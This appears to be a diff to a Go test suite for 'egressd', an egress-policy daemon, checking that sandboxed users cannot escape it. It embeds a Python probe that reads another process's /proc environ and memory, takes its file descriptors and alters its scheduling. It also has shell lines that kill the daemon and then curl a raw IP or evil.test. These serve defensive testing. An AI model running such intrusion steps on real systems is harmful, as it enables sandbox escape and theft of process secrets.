@@ -5,7 +5,6 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
-	"syscall"
 	"testing"
 
 	"github.com/egressd/egressd/policy"
@@ -16,8 +15,7 @@ const intrude = `
 import ctypes, os, platform, sys
 c = ctypes.CDLL(None, use_errno=True)
 pid = int(sys.argv[1])
-os.stat(f"/proc/{pid}/stat")
-for name in ("environ", "mem", "maps", "auxv", "io", "stack", "syscall"):
+for name in ("environ", "mem", "maps", "auxv", "io", "stack", "syscall", "stat", "sched", "net/tcp", "net/unix", "net/route", f"task/{pid}/net/tcp"):
     try: print("read", name, os.read(os.open(f"/proc/{pid}/{name}", os.O_RDONLY), 9))
     except OSError: pass
 for name in ("root/etc", "cwd/.", "fdinfo", "map_files", "ns/net/."):
@@ -37,7 +35,8 @@ v = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
 there = iovec(0x400000, 8)
 for name in ("process_vm_readv", "process_vm_writev"):
     if getattr(c, name)(pid, ctypes.byref(v), 1, ctypes.byref(there), 1, 0) >= 0: print(name)
-fd = os.pidfd_open(pid)
+try: fd = os.pidfd_open(pid)
+except OSError: fd = -1
 for n in range(64):
     if c.syscall(438, fd, n, 0) >= 0: print("took descriptor", n)
 for kind in (0x40000000, 0x10000000):
@@ -46,6 +45,16 @@ if c.syscall({"x86_64": 312, "aarch64": 272}[platform.machine()], os.getpid(), p
 if c.syscall({"x86_64": 298, "aarch64": 241}[platform.machine()], ctypes.create_string_buffer(b"\0\0\0\0\x70\0\0\0", 112), pid, -1, -1, 0) >= 0: print("measured")
 try: import resource; resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)); print("limited")
 except OSError: pass
+try: os.sched_setaffinity(pid, {0}); print("moved")
+except OSError: pass
+for call in lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: os.sched_setparam(pid, os.sched_param(0)), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19):
+    try: call(); print("slowed down")
+    except OSError: pass
+os.setpriority(os.PRIO_USER, 0, 7)
+try: os.setpriority(os.PRIO_PGRP, 0, 8)
+except OSError: pass
+ioprio = {"x86_64": 251, "aarch64": 30}[platform.machine()]
+for which, who in ((1, pid), (2, 0), (3, os.getuid())): c.syscall(ioprio, which, who, 3 << 13)
 print("tried")
 `
 
@@ -59,8 +68,9 @@ func TestEscapesThroughOtherProcesses(t *testing.T) {
 	}
 	for user := range users {
 		t.Run(user, func(t *testing.T) {
-			r := d.runFrom(t, user, `SECRET=1 sleep 60 & BYSTANDER=$! && export BYSTANDER && "$@"; kill $BYSTANDER`, `python3 intrude.py $PPID; python3 intrude.py $BYSTANDER`)
-			if r.out != "tried\ntried\n" {
+			const how = `how() { cut -d' ' -f18,19,41 /proc/$1/stat; ionice -p $1; }; how $BYSTANDER; how $$; `
+			r := d.runFrom(t, user, `SECRET=1 sleep 60 & BYSTANDER=$! && export BYSTANDER; sh -c 'export OUTSIDE=$$; exec "$@"' sh "$@"; `+how+`kill $BYSTANDER`, `python3 intrude.py $OUTSIDE; python3 intrude.py $BYSTANDER`)
+			if want := "tried\ntried\n" + strings.Repeat("20 0 0\nnone: prio 0\n", 2); r.out != want {
 				t.Errorf("printed %q %q", r.out, r.talk)
 			}
 		})
@@ -73,35 +83,13 @@ func TestEscapesByEndingEgressd(t *testing.T) {
 	for user := range users {
 		for _, signal := range []string{"KILL", "STOP", "SEGV", "XCPU"} {
 			t.Run(user+"/"+signal, func(t *testing.T) {
-				script := `kill -` + signal + ` $PPID 2>&1 && { sleep 0.2; kill -CONT $PPID; }; curl -sS -m9 http://151.101.1.69/ 2>&1`
-				if !signalsStayInside() {
-					d.endsEgressd(t, user, script)
-					return
+				r := d.runFrom(t, user, `export OUTSIDE=$$; exec "$@"`, `kill -`+signal+` $OUTSIDE 2>&1; curl -sS -m9 http://151.101.1.69/ 2>&1`)
+				if !strings.Contains(r.out, "No such process") || r.denied(evilIPv4, policy.DefaultDeny) == 0 {
+					t.Errorf("exit %d, printed %q (%s)", r.code, r.out, r.talk)
 				}
-				d.tries(t, user, escape{script: script, out: `not permitted`, host: evilIPv4, class: policy.DefaultDeny})
 			})
 		}
 	}
-}
-
-// endsEgressd looks that nothing leaves where the kernel lets egressd be ended.
-func (d *daemon) endsEgressd(t *testing.T, user, script string) {
-	t.Helper()
-	wire, err := d.world.Wire.Mark()
-	if err != nil {
-		t.Fatal(err)
-	}
-	d.runFrom(t, user, `"$@"`, script)
-	if packets, err := d.world.Wire.Since(wire); err != nil || len(packets) > 0 {
-		t.Errorf("%v, sent %v", err, packets)
-	}
-}
-
-// signalsStayInside reports whether the kernel's Landlock keeps signals in.
-func signalsStayInside() bool {
-	const createRuleset, wantVersion, version = 444, 1, 6
-	got, _, errno := syscall.Syscall(createRuleset, 0, 0, wantVersion)
-	return errno == 0 && got >= version
 }
 
 // queues is Python that queues all the signals that it may until there is a file "over".
@@ -209,8 +197,9 @@ for i in range(20000):
 '`, "", "", ""},
 	} {
 		t.Run(e.says, func(t *testing.T) {
-			after := `; for i in 1 2 3 4 5; do curl -sS -m9 http://evil.test/ && break; sleep 0.3; done; grep -h VmHWM /proc/$PPID/status`
-			r := d.runFrom(t, "user", `ulimit -n 1024; ulimit -c 0; exec "$@"`, e.script+after)
+			after := `; for i in 1 2 3 4 5; do curl -sS -m9 http://evil.test/ && break; sleep 0.3; done`
+			const watched = `"$@" & while grep -h VmHWM /proc/$!/status >most.tmp; do mv most.tmp most; sleep 0.05; done; wait $!; code=$?; cat most; exit $code`
+			r := d.runFrom(t, "user", `ulimit -n 1024; ulimit -c 0; `+watched, e.script+after)
 			if r.code != 0 || !strings.Contains(r.out, `"class":"default-deny"`) {
 				t.Fatalf("exit %d, printed %q %q", r.code, r.out, r.talk)
 			}
